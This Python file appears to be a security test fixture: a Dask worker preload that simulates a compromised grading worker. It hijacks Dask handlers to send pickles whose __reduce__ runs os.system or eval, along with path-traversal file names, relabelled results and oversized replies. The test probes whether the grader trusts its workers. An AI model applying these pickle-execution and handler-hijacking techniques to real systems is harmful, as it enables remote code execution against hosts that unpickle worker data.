"""A compromised worker of the instructor's own cluster, as a Dask preload (``dask worker --preload``).

It holds the course's worker certificate, so the scheduler gives it jobs; then it lies. Every
message it can send that make grade's process might unpickle carries a pickle that would run
``touch $ATTENTION_HOSTILE_MARK`` when unpickled in make grade's process (the command checks
where it runs: Dask itself unpickles some of these on the worker and the scheduler, which trust
their workers), a result's type and a warning event among them; and the job of each learner named
``v-<variant>`` gets a hostile answer instead of its grade:

- ``v-pickled-result``: an object whose unpickling runs the command, as the task's result;
- ``v-pickled-data``: the honest reply, but sent pickled whatever serialiser make grade asks for;
- ``v-pickled-part``: the honest reply with a pickled part (Dask's ``__Pickled__``) beside it;
- ``v-raised-error``: an exception whose unpickling runs the command;
- ``v-not-a-reply``: raw bytes; ``v-garbage``: a reply whose outcome is not one;
- ``v-someone-else``: the honest outcome relabelled as another learner's (``alice``);
- ``v-escape``: the honest outcome with a file named ``../../../hostile-mark-escaped``;
- ``v-oversized``: the honest outcome padded past the course's ``DaskCluster.max_outcome_bytes``.

Every other learner is graded honestly (through the run's own grader), lies around it included.
"""
import json
import os
import pickle

MARK = os.environ["ATTENTION_HOSTILE_MARK"]
PADDING = int(os.environ.get("ATTENTION_HOSTILE_PADDING", str(9 * 2**20)))
MAGIC = b"attention-grading-record/1\n"


# Runs in whichever process unpickles it; leaves the mark only in make grade's.
COMMAND = f"grep -q attention_grading.cli.grade /proc/$PPID/cmdline && touch {MARK}"


class Evil:
    def __reduce__(self):
        return os.system, (COMMAND,)


class EvilError(BaseException):          # past the task's own `except Exception`
    def __reduce__(self):     # unpickles to an exception (so Dask's own check on the worker keeps it)
        return eval, (f"__import__('os').system({COMMAND!r}) or Exception('grading failed')",)


def _student_of(key):
    key = str(key)                                    # attention-grade-<student>-<lesson>-<id>
    return key[len("attention-grade-"):].rsplit("-", 2)[0] if key.startswith("attention-grade-") else ""


def _rewrite(outcome, change):
    """The wire bytes ``outcome`` with its JSON header passed through ``change``."""
    size = int.from_bytes(outcome[len(MAGIC):len(MAGIC) + 8], "big")
    start = len(MAGIC) + 8
    header = json.loads(outcome[start:start + size])
    change(header)
    data = json.dumps(header).encode()
    return MAGIC + len(data).to_bytes(8, "big") + data + outcome[start + size:]


def _relabel(header):
    header["fields"]["result"]["student"] = "alice"


def _escape(header):
    header["files"][0][1] = "../../../hostile-mark-escaped"


def hostile(worker, honest, payload):
    variant = _student_of(worker.get_current_task()).removeprefix("v-")
    worker.log_event("warn", {"message": pickle.dumps(Evil()), "category": pickle.dumps(Evil())})
    if variant == "pickled-result":
        return Evil()
    if variant == "raised-error":
        raise EvilError("grading failed")
    if variant == "not-a-reply":
        return b"raw bytes"
    if variant == "garbage":
        return {"kind": "ok", "outcome": b"garbage"}
    reply = honest(payload)
    if reply.get("kind") != "ok":
        return reply
    if variant == "someone-else":
        reply["outcome"] = _rewrite(reply["outcome"], _relabel)
    elif variant == "escape":
        reply["outcome"] = _rewrite(reply["outcome"], _escape)
    elif variant == "oversized":
        reply["outcome"] = _rewrite(reply["outcome"], lambda h: None) + b"\0" * PADDING
    return reply


def dask_setup(worker):
    """Wrap the run's grader once it is installed; lie in every message that may be unpickled."""
    import distributed.worker_state_machine as machine
    from distributed.core import Status
    from distributed.protocol import ToPickle

    class LyingPickle:                                   # a result's type, as the worker reports it
        @staticmethod
        def dumps(*args, **kwargs):
            return pickle.dumps(Evil())

    machine.pickle = LyingPickle

    original_add = worker.plugin_add

    async def plugin_add(plugin=None, name=None, catch_errors=True):
        answer = await original_add(plugin=plugin, name=name, catch_errors=catch_errors)
        installed = worker.plugins.get(name)
        if installed is not None and hasattr(installed, "grade"):
            honest = installed.grade
            installed.grade = lambda payload: hostile(worker, honest, payload)
        return answer

    worker.plugin_add = plugin_add
    worker.handlers["plugin-add"] = plugin_add

    original_get_data = worker.get_data

    async def get_data(comm, keys, who=None, serializers=None):
        if any(_student_of(key) == "v-pickled-data" for key in keys):
            serializers = ["pickle"]
        if any(_student_of(key) == "v-pickled-part" for key in keys):
            data = {k: worker.data[k] for k in keys if k in worker.data}
            await comm.write({"status": "OK", "data": data, "extra": ToPickle(Evil())}, serializers=serializers)
            await comm.read(deserializers=serializers)
            return Status.dont_reply
        return await original_get_data(comm, keys, who=who, serializers=serializers)

    worker.get_data = get_data
    worker.handlers["get_data"] = get_data

